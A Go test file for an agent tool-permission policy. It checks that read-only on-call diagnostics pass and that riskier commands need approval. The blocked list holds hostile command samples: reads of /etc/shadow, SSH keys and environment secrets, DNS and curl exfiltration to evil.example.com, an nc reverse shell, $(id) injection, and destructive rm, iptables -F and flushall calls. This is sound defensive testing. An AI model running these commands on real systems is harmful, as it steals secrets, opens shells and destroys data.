package policy_test

import (
	"encoding/json"
	"io/fs"
	"regexp"
	"strings"
	"testing"

	"github.com/akmatori/akmatori/internal/policy"
	"github.com/akmatori/akmatori/migrations"
	"github.com/stretchr/testify/require"
)

// What people on call type.
var usual = []string{
	// Disks.
	"df", "df -h", "df -hT", "df -h /var", "df -i", "df -Th -x tmpfs -x devtmpfs", "du -sh /var/log", "du -xh --max-depth=1 /var | sort -rh | head -n 20", "du -ah /var/log | sort -rh | head -20",
	"du -sh /var/log/* | sort -h", "du -xsh /var/lib/* 2>/dev/null | sort -rh | head", "lsblk", "lsblk -f", "lsblk -o NAME,SIZE,MOUNTPOINT", "findmnt", "findmnt -T /var", "mount", "mount | grep -w ro", "cat /proc/mounts | grep ' ro,'",
	"find /var/log -type f -size +100M", "find /var/log -name '*.log' -mtime -1 -exec ls -lh {} \\;", "find / -xdev -type f -size +500M 2>/dev/null | head", "find /tmp -maxdepth 1 -type f -mmin -60", "find /var/log -name '*.gz' -exec du -ch {} + | tail -1",
	"find . -name '*.log' -exec ls -l {} +", "find /var/log -name '*.log' -exec grep -l x {} \\;", "find /var/log -type f -exec tail -n 5 {} +",
	"ls -la /var/log", "ls -lhtr /var/log | tail", "ls -ld /data", "stat /var/lib/mysql", "lsof -nP +L1", "lsof -nP -iTCP -sTCP:LISTEN", "lsof -i :8080", "iostat -xz 1 3", "iostat -dx", "smartctl -H /dev/sda", "pvs", "vgs", "lvs -a", "cat /proc/mdstat", "lsof -i tcp:443", "lsof -iTCP@10.0.0.1:443 -n", "lsof +D /var/log", "fuser -v 80/tcp", "fuser -n tcp 80", "fuser -vm /var", "cat /sys/block/*/queue/scheduler", "grep . /sys/class/net/eth0/statistics/*", "cat /sys/class/thermal/thermal_zone*/temp", "printf '%5d%%' 10", "crm_mon -1", "jstat -gc 1", "iostat -p sda 1 2", "sar -s 10:00:00 -e 11:00:00", "zpool list tank", "ip xfrm policy", "sysctl net.ipv4.tcp_rmem net/core/somaxconn",
	"mdadm --detail /dev/md0", "zpool status -x",
	// Memory, processors, processes.
	"free -h", "free -m", "vmstat 1 5", "vmstat -s", "uptime", "w", "who -b", "last -n 10", "last reboot", "nproc", "lscpu", "cat /proc/loadavg", "cat /proc/meminfo", "grep -E 'MemFree|MemAvailable' /proc/meminfo", "cat /proc/pressure/memory", "cat /proc/pressure/*",
	"ps aux", "ps aux --sort=-%mem | head -20", "ps aux --sort -%mem", "journalctl -n -5", "sort -t - -k 2 /var/log/a", "ps aux --sort=-%cpu | head -n 10", "ps -ef | grep nginx | grep -v grep", "ps -eo pid,ppid,user,stat,pcpu,pmem,etime,comm --sort=-pcpu | head", "ps -eLf | wc -l", "ps -o pid,rss,cmd -p 1234", "ps -u www-data", "ps -C nginx -o pid,rss", "ps auxf", "ps -ef --forest", "ps -aux --sort=-%mem", "ps -ef ww", "ps -eLo pid,tid,pcpu,comm", "ps -ejH", "ps -fp 1234", "ps -C sleep -o pid,rss", "ps -eo pid,lstart,args --no-headers", "ps -fu root", "ps -eo pid,args --no-headers -u postgres", "ps -ef -u www-data", "ps -T -p 1234",
	"top -bn1 | head -20", "top -b -n 1 -o %MEM | head -30", "pgrep -af java", "pidof nginx", "pstree -p 1", "mpstat -P ALL 1 3", "pidstat -u 1 5", "sar -u 1 3", "sar -r -f /var/log/sysstat/sa12", "cat /proc/1234/status", "cat /proc/1234/limits | grep 'open files'", "ps aux | awk '{print $1}' | sort | uniq -c | sort -rn",
	"ps aux | awk '$3 > 50 {print $2, $11}'", "ps -eo state | sort | uniq -c", "dmesg -T | grep -i 'out of memory'", "dmesg -T | tail -n 50", "dmesg --level=err,warn", "dmesg -T | egrep -i 'oom|killed process' | tail", "journalctl -k | grep -i oom", "jstat -gcutil 1234 1000 5",
	// Services and logs.
	"systemctl status nginx", "systemctl status nginx.service --no-pager -l", "systemctl --failed", "systemctl list-units --state=failed --no-pager", "systemctl list-timers --all", "systemctl is-active nginx mysql", "systemctl show nginx -p MainPID,ActiveState,NRestarts", "systemctl list-dependencies nginx", "systemctl is-system-running",
	"journalctl -u nginx -n 100 --no-pager", "journalctl -u nginx --since '1 hour ago' --no-pager | grep -i error", "journalctl -p err -b --no-pager | tail -n 50", "journalctl -xeu nginx --no-pager", "journalctl --since '2024-01-01 10:00' --until '2024-01-01 11:00' --no-pager", "journalctl -b -1 -n 200 --no-pager",
	"journalctl -u nginx -o cat --no-pager | tail -200 | grep -Ei 'warn|error|fatal' | sort | uniq -c | sort -rn | head -20", "journalctl --disk-usage", "journalctl _PID=1234 -n 20", "journalctl -t sshd -n 50 | grep Failed", "journalctl --list-boots", "journalctl -u app --no-pager --output=json -n 5 | jq -r '.MESSAGE'",
	"tail -n 200 /var/log/syslog", "tail -100 /var/log/nginx/error.log", "tail -n 500 /var/log/nginx/access.log | awk '{print $9}' | sort | uniq -c | sort -rn", "grep -i error /var/log/syslog | tail -n 20", "grep -rn 'connection refused' /var/log/nginx", "grep -c ' 500 ' /var/log/nginx/access.log",
	"grep -E ' (500|502|503|504) ' /var/log/nginx/access.log | tail -20", "grep -i error /var/log/nginx/*.log | tail", "zgrep -c ERROR /var/log/app/app.log.1.gz", "zcat /var/log/syslog.2.gz | grep -i oom | head", "cat /var/log/messages | grep -i 'I/O error'", "sed -n '100,150p' /var/log/app.log", "sed -n '/10:00/,/10:05/p' /var/log/app.log",
	"awk '/ERROR/ {c++} END {print c}' /var/log/app.log", "awk -F: '{print $1}' /etc/passwd | wc -l", "cut -d' ' -f1 /var/log/nginx/access.log | sort | uniq -c | sort -nr | head", "head -5 /var/log/syslog", "wc -l /var/log/syslog", "cat /etc/os-release", "cat /etc/resolv.conf", "cat /etc/hosts", "grep -v '^#' /etc/ssh/sshd_config",
	"tail -n 1000 /var/log/syslog | grep -oE '[0-9]+\\.[0-9]+\\.[0-9]+\\.[0-9]+' | sort | uniq -c", "sed 's/[0-9]+/N/g' /var/log/app.log | sort | uniq -c", "tail -c 2000 /var/log/app.log | tr -d '\\r'", "grep -A3 -B3 'panic' /var/log/app.log", "egrep 'a|b' /var/log/app.log", "grep -e a -e b -h /var/log/app.log", "LC_ALL=C grep x /var/log/syslog",
	"last -x shutdown", "date", "date -u +%FT%TZ", "timedatectl", "chronyc tracking", "ntpq -pn", "hostname -f", "hostnamectl", "uname -a", "id", "sysctl vm.swappiness", "sysctl -a | grep somaxconn", "cat /proc/sys/fs/file-nr", "cat /sys/class/net/eth0/operstate", "getconf -a | grep PAGE", "ulimit -n",
	// Network.
	"ss -tulpn", "ss -s", "ss -tan state established | wc -l", "ss -tnp '( dport = :5432 )'", "ss -tan | awk '{print $1}' | sort | uniq -c", "ss -lnt sport = :443", "netstat -tulpn | grep :80", "netstat -s | grep -i retrans", "ip addr", "ip -br a", "ip route", "ip -s link show eth0", "ip route get 10.0.0.1", "ip neigh show",
	"ethtool eth0", "ethtool -S eth0 | grep -i drop", "ping -c 3 10.0.0.5", "ping -c 2 -W 1 db-1", "traceroute -n 10.0.0.1", "dig +short db.internal", "dig @10.0.0.2 db.internal A", "getent hosts db-1", "nc -zv 10.0.0.5 5432", "iptables -L -n -v", "iptables -t nat -S", "cat /proc/net/dev", "cat /proc/net/sockstat", "conntrack -C", "cat /proc/sys/net/netfilter/nf_conntrack_count",
	"curl -sI http://localhost/", "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/healthz", "curl -fsS localhost:9090/-/healthy", "openssl x509 -in /etc/ssl/certs/site.pem -noout -enddate", "echo | openssl s_client -connect localhost:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates",
	"openssl s_client -connect localhost:443 </dev/null", "openssl s_client -connect localhost:443 2>/dev/null </dev/null | openssl x509 -noout -dates", "echo | timeout 5 openssl s_client -connect localhost:443", "bash -c 'echo | openssl s_client -connect localhost:443'", "ceph -s", "ceph osd tree", "nslookup db-1", "dig @127.0.0.1 -x 10.0.0.2", "dig @172.16.0.1 db.internal",
	// Containers and services.
	"docker ps", "docker ps -a --format '{{.Names}} {{.Status}}'", "docker logs --tail 100 web", "docker logs --tail=50 web 2>&1 | grep -i error", "docker stats --no-stream", "docker inspect -f '{{.State.Status}}' web", "docker top web", "docker container ls -a", "docker compose ps -a", "kubectl -n prod top pods", "kubectl --context a -n prod get pods", "helm -n prod list", "redis-cli -h localhost -p 6380 info", "docker system df", "crictl ps -a", "kubectl get pods -A", "kubectl get pods -n prod -o wide", "kubectl get nodes,pods", "kubectl describe node n1",
	"kubectl logs web-0 -n prod --tail=100", "kubectl top pods -n prod", "kubectl get events -n prod --sort-by=.lastTimestamp", "kubectl logs web-0 --previous --tail=50", "redis-cli ping", "redis-cli info memory", "redis-cli -p 6380 slowlog get 10", "pg_isready -p 5432", "mysqladmin status", "rabbitmqctl list_queues name messages", "nginx -v", "python3 --version", "rpm -qa | grep kernel", "dpkg -l | grep nginx",
	// Together, and behind wrappers.
	"uptime; free -m; df -h", "df -h && free -m", "systemctl is-active nginx || journalctl -u nginx -n 20 --no-pager", "sudo journalctl -u nginx -n 50", "sudo -n ss -tulpn", "timeout 10 du -sh /var", "nice -n 19 du -sh /srv", "sudo timeout 5 lsof -nP -i :443", "bash -c 'df -h; free -m'", "sh -c 'ps aux | head -5'", "ionice -c3 du -sh /var/lib",
	"echo a | xargs -I X df -h", "test -f /var/run/nginx.pid && echo up", "test ! -e /data || df", "which java", "command -v docker", "echo done", "echo 'a; rm -rf /'", "printf '%s\\n' x", "ls /nonexistent 2>&1 | head -1", "cat /var/log/syslog >/dev/null && echo readable", "ls /proc/1234/fd | wc -l", "ls -l /proc/1234/fd | head",
}

var notUsual = []string{
	// writes
	"sort -o /etc/passwd", "sort --output=/etc/x", "sort -rn -o x", "uniq /var/log/a /etc/cron.d/x", "date -s x", "date 01010000", "hostname x", "dmesg -C", "dmesg -c", "df -h > /x", "df -h >> /var/log/x", "cat /var/log/a > /var/log/b",
	"journalctl --no-pager -n 5 --vacuum-size=1", "journalctl --rotate", "journalctl -n --vacuum-time=1s", "sudo journalctl --lines --rotate", "journalctl -n -D /x", "journalctl -u nginx -n -f", "sar -s -o ../../tmp/x 1 1", "podman logs -n -f web", "nice -n --adjustment=5 df", "journalctl --flush", "ss -K", "ss -tK dst 10.0.0.1", "ip route add x", "ip -br addr add x", "ip addr show add x; ip link set eth0 down", "ip link set x up", "ip a s", "top -b -n 1 -p 1 -W", "du -xsh /x --files0-from=/etc/shadow",
	"sysctl -w vm.swappiness=1", "sysctl vm.swappiness=1", "sysctl -p", "timedatectl set-time x", "hostnamectl set-hostname x", "ethtool -K eth0 tso off", "ethtool -p eth0", "ifconfig eth0 down", "route add default gw x", "arp -d x", "iptables -F", "iptables -L -Z", "iptables -A INPUT", "nft flush ruleset",
	"mdadm --stop /dev/md0", "smartctl -t short /dev/sda", "smartctl -l scterc,70,70 /dev/sda", "tune2fs -c 1 /dev/sda1", "zpool scrub x", "mount -o remount,rw /", "swapon -a", "swapoff -a", "tee /x", "touch /x", "rm x", "mv a b", "cp a b", "truncate -s 0 /var/log/a", "dd if=/dev/zero", "chmod 1 x", "kill 1", "pkill x", "find /var/log -delete",
	"find /var/log/a /etc/hosts -exec uniq {} +", "find /var/log/a -exec uniq {} \\;", "uniq /var/log/x?", "uniq /var/log/x*", "uniq /var/log/a /var/log/*",
	"find /etc/passwd -exec sed 's/daemon:x:1:/daemon:x:0:/' /var/log/a + -iname {} -iname \\;", "find /etc/shadow -exec grep -v -e zzz /dev/null + -newer {} -newer \\;", "find /var/log -exec ls + -print", "find /var/log -exec ls {} x +",
	"find /tmp/s/x/y/ -exec sed {} /var/log/a \\;", "find /tmp/ -exec awk {} /var/log/a \\;", "find localhost -exec curl {} \\;", "find /var/log -execdir ls {} +", "find /var/log -okdir ls {} \\;", "find /var/log -fprint /x", "find /var/log -exec rm {} +", "find /var/log -exec sh -c 'rm x' \\;", "find /var/log -ok rm {} +", "sed -i s/a/b/ /var/log/a", "sed 's/a/b/w /x' /var/log/a", "sed 's/a/id/e' /var/log/a", "sed -n '1e id' /var/log/a", "sed 'w /x' /var/log/a", "sed '1r /etc/shadow' /var/log/a", "sed -f /x /var/log/a", "sed -s 1d /var/log/a",
	"docker rm x", "docker exec web sh", "docker restart web", "docker system prune", "kubectl delete pod x", "kubectl exec x -- sh", "kubectl rollout restart deploy/x", "kubectl scale deploy x --replicas=0", "kubectl -A events delete -l a=b", "kubectl --all-namespaces events delete -l a=b", "docker compose --all top rm", "docker container -l ls rm x", "nerdctl -a ps rm x", "helm -a list uninstall x", "redis-cli flushall", "redis-cli config set x y", "mysqladmin shutdown", "rabbitmqctl stop", "nginx -s stop", "nginx -t", "supervisorctl stop x", "crontab -r", "chronyc makestep", "conntrack -F", "conntrack -D",
	// starts
	"sort --compress-program=id", "sort -S1 --compress-prog=id", "systemctl --failed stop x", "systemctl status x stop y; systemctl stop y", "systemctl start x", "systemctl restart nginx", "systemctl daemon-reload", "vmstat 1 5 | sh", "top", "top -n 1", "find / -exec reboot \\;", "find docker -name entrypoint.sh -exec {} ps \\;", "find df -exec {} \\;", "find df -exec nice {} \\;", "id; sh", "ps aux | xargs kill", "find /var/log | xargs rm", "ip -b /x route", "ip netns exec a id", "ip vrf exec a id", "pidstat -e id",
	"awk 'BEGIN{system(\"id\")}'", "awk 'BEGIN { \"id\" | getline x }'", "awk '{print | \"sh\"}'", "awk '{print > \"/x\"}'", "awk -f /x", "awk '@load \"x\"'", "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", "gawk -i inplace 1 /var/log/a", "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'", "awk 'BEGIN{print ENVIRON[\"X\"]}'",
	"jq 'env'", "jq -n '$ENV'", "jq -f /x", "jq --rawfile a /etc/shadow .", "perl -e 1", "python3 x", "bash x", "bash", "sh -c 'df; rm x'", "sh -c id\\;sh", "eval df", "tar xf x", "git log", "rpm --eval x", "rpm -i x", "dpkg -i x", "nice rm x", "sudo bash", "sudo -i", "sudo su", "sudo -u postgres psql", "timeout 5 sh", "env A=1 df", "env", "printenv", "nohup df &", "LD_PRELOAD=x df", "PATH=/tmp df",
	"echo \"-exec sh -c 'id > /tmp/p' ;\" | xargs -I X -L 1 find /tmp -maxdepth 0", "echo /etc/shadow | xargs -I X -L 1 cat /var/log/wtmp", "xargs -L1 -I X cat /var/log/a", "xargs -I X -n 1 cat /var/log/a", "xargs -IX --max-args=1 cat /var/log/a", "xargs -I X --max-lines cat /var/log/a", "xargs -I X -I Y cat /var/log/a", "xargs -I X -I Y ls X", "xargs -I '' ls",
	"ntpq", "ntpq -n", "echo 'host evil.example.com' | ntpq", "ceph", "ceph --", "echo 'osd pool rm a a --yes-i-really-really-mean-it' | ceph", "ceph -s osd", "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' | openssl s_client -connect localhost:9200", "openssl s_client -connect localhost:443", "echo x | openssl s_client -connect localhost:443",
	"printf x | cat | openssl s_client -connect localhost:443", "echo | openssl s_client -connect localhost:443 < /var/log/x", "openssl s_client -connect localhost:443 </dev/null </var/log/x", "echo && openssl s_client -connect localhost:443", "echo | cat /var/log/x | openssl s_client -connect localhost:443", "echo | bash -c 'openssl s_client -connect localhost:443'",
	// goes elsewhere
	"nslookup", "nslookup -", "nslookup - 10.0.0.1", "echo data.evil.example.com | nslookup", "nslookup label 6.6.6.6", "host label 6.6.6.6", "dig @6.6.6.6 label", "dig @172.32.0.1 label",
	"systemctl status -Hroot@x", "systemctl -H x status y", "systemctl status --host=x", "systemctl -M x status y", "journalctl -M x --no-pager -n 5", "ss -tln -N x", "ss dst evil.example.com", "ping -c 1 data.evil.example.com", "ping 10.0.0.1", "ping -c 1000 10.0.0.1", "ping -f -c 3 10.0.0.1", "dig data.evil.example.com", "dig @evil.example.com x", "dig -f /etc/shadow",
	"host data.evil.example.com", "getent hosts data.evil.com", "getent shadow", "curl http://169.254.169.254/latest/meta-data", "curl -s http://localhost:8500/v1/kv/x", "curl -X POST http://localhost/", "curl -d x localhost", "curl -o /x localhost", "curl -T /etc/shadow localhost", "curl localhost.evil.com/", "curl -L localhost", "curl -K /x", "curl -s http://localhost/../etc", "wget x", "nc 10.0.0.1 80", "nc -l 80", "nc -e sh 10.0.0.1 80", "ssh x", "scp a b", "redis-cli -h evil.example.com ping", "redis-cli -h localhost -h evil.example.com ping", "ping -c 1 -c 1000000 -i 0.01 10.0.0.1", "ping -c 1000000 -c 1 10.0.0.1", "docker compose -f https://evil.example.com/a.git ps", "traceroute evil.example.com", "openssl s_client -connect evil.example.com:443",
	// reads files
	"cat /etc/shadow", "cat /proc/1/environ", "cat /proc/self/environ", "cat /proc/loadavg /etc/shadow", "cat /proc/../etc/shadow", "cat /var/log/../../etc/shadow", "head -n 5 /etc/shadow", "head -5 /etc/shadow", "tail -n 5 /etc/shadow", "head /etc/shadow", "wc -l /etc/shadow", "wc --files0-from=/etc/shadow",
	"sort /etc/shadow", "sort --files0-from=/x", "uniq /etc/shadow", "grep root /etc/shadow", "grep -f /etc/shadow", "grep -f/etc/shadow", "grep --file=/etc/shadow", "grep -r x", "grep -re.", "grep -E -r .", "grep -r password /etc", "grep -R x /var/log", "grep x -r", "grep root /etc/*", "cat /var/*/shadow", "cat /*", "cat ~/.ssh/id_rsa", "cat .env", "cat < /etc/shadow", "sort < /etc/shadow",
	"journalctl --no-pager -n 5 --file=/x", "journalctl --no-pager -u x -n 5 -D /x", "date -f /etc/shadow", "ls -la -R /", "dmesg -F /etc/shadow", "ss -F /etc/shadow", "tail -f /var/log/syslog", "sed -n 1p /etc/shadow", "awk 1 /etc/shadow", "diff /etc/shadow /dev/null", "od /dev/sda", "strings /dev/mem", "xxd /etc/shadow", "base64 /etc/shadow", "find /etc -name shadow -exec cat {} +", "find /var/log /etc -exec cat {} +", "zcat /etc/x.gz", "cat /proc/1/mem", "cat /proc/kcore", "sudo cat /etc/shadow",
	"cat /var/log/.?/.?/etc/shadow", "sudo cat /var/log/.*/.*/etc/shadow", "sh -c 'cat /var/log/.?/.?/etc/shadow'", "cat /var/log/.[.]/.[.]/etc/shadow", "cat /var/log/*/.?/.?/.?/etc/shadow",
	// shows environments and secrets
	"ps eww", "ps auxe", "ps -auxe", "ps -u xe", "ps -aux -e", "ps -aux -ef", "ps -ef -auxww", "ps -eTH", "ps -eT --forest", "ps -eH -m -q 1", "ps -eax -O u", "ps --format pid,cmd -ef", "ps -eo zzz", "ps -e -u p1", "ps -ef -u t1", "ps -e -u acc", "ps -e -U nobody", "ps -eLf --forest", "ps -C eww -T -H", "ps -N -o eww -H -T", "ps -ef u", "ps -p e", "ps -eo pid,environ", "ps -ef e", "systemctl show-environment", "systemctl show x", "systemctl show x -p Environment", "systemctl show -p ''  x", "systemctl cat x", "docker inspect web", "docker inspect -f '{{.Config.Env}}' web", "docker inspect -f '{{json .}}' web", "docker history x", "docker top web eww", "docker logs -f web", "docker stats", "kubectl get secrets", "kubectl get pods,secrets", "kubectl get pods -o yaml", "kubectl get secret/x", "kubectl get po/x secret/y",
	"kubectl get pods -o wide -o yaml", "kubectl get pods -o yaml -o wide", "kubectl get pods -o wide -o go-template-file=/etc/shadow", "docker inspect -f '{{.State.Status}}' -f '{{.Config.Env}}' web", "podman top -l eww", "podman top --latest eww",
	"kubectl describe pod x", "kubectl get configmap", "kubectl cluster-info dump", "kubectl get pods -o jsonpath={.items}", "crictl inspect x", "mysql -e 'select 1'", "psql -c 'select 1'", "tcpdump -i eth0", "strace -p 1", "gdb -p 1",
	"sudo ip xfrm state", "ip xfrm state show", "sudo cat /sys/class/iscsi_session/session1/password", "cat /sys/class/iscsi_session/*/*", "cat /sys/class/*/*/password", "cat /sys/class/nvme/nvme0/dhchap_secret", "cat /sys/block/nvme0n1/device/*", "sysctl net.ipv4.tcp_fastopen_key", "cat /proc/sys/net/ipv4/tcp_fastopen_key", "sysctl kernel/../../../etc/shadow", "sysctl kernel..x",
	"grep -r . /sys/kernel", "grep -r . /sys", "find /sys -path '*/firmware/*' -exec cat {} +", "find /sys/class -name 'pass*' -exec cat {} \\;", "find /sys/class -exec grep -r . {} +",
	"lsof -i @data.evil.example.com", "lsof -i@data.evil.example.com", "lsof -i tcp@data.evil.example.com:1", "fuser -n tcp 22,data.evil.example.com,1", "fuser 22,data.evil.example.com,1/tcp", "fuser -n tcp /x,data.evil.example.com", "printf '%d' 'a[$(id)]'", "printf '%5.*f' 'a[$(id)]'", "printf '%s %d' x 'a[$(id)]'",
	"test 1 -eq 'a[$(id)]'", "[ 1 -eq 'a[$(id)]' ]", "test -v 'a[$(id)]'", "[ -t 'a[$(id)]' ]",
	// does not end, or takes what others read
	"crm_mon", "crm_mon -r", "lsof +r 1", "lsof -i +r", "jstat -gcutil 1 1000", "iostat -p 1", "sar -s 1", "sar -I 1", "zpool list 1", "zpool status tank 0.5", "mcelog", "sudo mcelog",
	// is not what it looks like
	"./df -h", "/tmp/df -h", "df -h $(id)", "df -h\nid", "df -h & id", "df -h `id`", "/bin/d?", "DF -h", "df -h 2>/dev/tcp/10.0.0.1/80", "df <<E\nx\nE", "cat <<< x", "df -h |& sh", "! df", "(df)", "{ df; }", "if df; then df; fi", "df --human-readabl", "watch df", "iostat 1", "vmstat 1", "vmstat 1 100000", "free -s 1", "sleep 600", "mtr 10.0.0.1", "journalctl -f", "dmesg -w",
}

// decideDiagnostics judges by the class alone.
func decideDiagnostics(t *testing.T, cmd string) policy.Decision {
	t.Helper()
	return load(t, "allow:ssh_execute(@diagnostics)").Decide(policy.Call{Tool: "ssh_execute", Command: cmd})
}

// TestDiagnostics: the class lets pass what is usual and nothing that writes,
// starts, goes elsewhere or shows a secret.
func TestDiagnostics(t *testing.T) {
	t.Parallel()
	for _, cmd := range usual {
		d := decideDiagnostics(t, cmd)
		if d.Verdict != policy.Allow {
			t.Errorf("%q: %v", cmd, d.Reasons)
			continue
		}
		again := decideDiagnostics(t, d.Canonical)
		require.Equal(t, d.Canonical, again.Canonical, cmd)
		require.Equal(t, policy.Allow, again.Verdict, "%q becomes %q: %v", cmd, d.Canonical, again.Reasons)
	}
	for _, cmd := range notUsual {
		if d := decideDiagnostics(t, cmd); d.Verdict != policy.Ask {
			t.Errorf("%q: %v", cmd, d)
		}
	}
}

// TestDefaultRules: what a new installation starts with is valid, reachable, and
// of the command tools the class alone.
func TestDefaultRules(t *testing.T) {
	t.Parallel()
	sql, err := fs.ReadFile(migrations.FS, "0008_policy.sql")
	require.NoError(t, err)
	_, list, ok := strings.Cut(string(sql), "rules = ARRAY[")
	require.True(t, ok)
	list, _, ok = strings.Cut(list, "] WHERE")
	require.True(t, ok)
	var rules []string
	for _, m := range regexp.MustCompile(`(?m)^\s*'(.*)',?$`).FindAllStringSubmatch(list, -1) {
		rules = append(rules, m[1])
	}
	require.Greater(t, len(rules), 10)
	r := load(t, rules...)
	require.Empty(t, r.Unreachable())
	p := policy.Policy{Platform: policy.Platform(), Agent: r}
	require.Empty(t, p.Platform.Unreachable())
	for _, cmd := range usual {
		d := p.Decide(policy.Call{Tool: "ssh_execute", Command: cmd})
		require.Equal(t, policy.Allow, d.Verdict, "%q: %v", cmd, d.Reasons)
		require.NotEqual(t, policy.Allow, p.Decide(policy.Call{Tool: "Bash", Command: cmd}).Verdict, cmd)
	}
	for method, want := range map[string]policy.Verdict{"host.get": policy.Allow, "problem.get": policy.Allow, "mediatype.get": policy.Ask, "UserMacro.get": policy.Ask, "host.update": policy.Ask, "event.acknowledge": policy.Ask, "configuration.export": policy.Ask} {
		require.Equal(t, want, p.Decide(policy.Call{Tool: "zabbix_api", Command: method}).Verdict, method)
	}
	for tool, want := range map[string]policy.Verdict{"ssh_hosts": policy.Allow, "zabbix_problems": policy.Allow, "evidence_read": policy.Allow, "zabbix_acknowledge": policy.Ask, "http_request": policy.Ask, "ask_agent": policy.Deny} {
		require.Equal(t, want, p.Decide(policy.Call{Tool: tool}).Verdict, tool)
	}
}

// TestDenyAllBehindDiagnostics is the example of the package's comment.
func TestDenyAllBehindDiagnostics(t *testing.T) {
	t.Parallel()
	for _, lines := range [][]string{{"allow:ssh_execute(@diagnostics)"}, {"allow:ssh_execute(@diagnostics)", "deny:*"}} {
		rules, err := policy.Load(lines)
		require.NoError(t, err)
		for command, carries := range map[string]string{"df -h": "", "docker ps": "", "redis-cli ping": "ping", "kubectl get pods": "get pods", "timeout 5 df -h": "5 df -h",
			"openssl x509 -noout -in /etc/ssl/certs/a.pem": "x509"} {
			arguments, err := json.Marshal(map[string]string{"target": "a", "command": command})
			require.NoError(t, err)
			call, err := policy.ReadCall("ssh_execute", arguments)
			require.NoError(t, err)
			d := policy.Policy{Platform: policy.Platform(), Agent: rules}.Decide(call)
			if len(lines) == 1 || carries == "" {
				require.Equal(t, policy.Allow, d.Verdict, "%s: %s", command, d.Reasons)
				continue
			}
			require.Equal(t, policy.Deny, d.Verdict, command)
			program, _, _ := strings.Cut(command, " ")
			require.Equal(t, []string{program + " may run what its arguments say, and the first rule that matches " + carries + " is deny:*"}, d.Reasons)
		}
	}
}
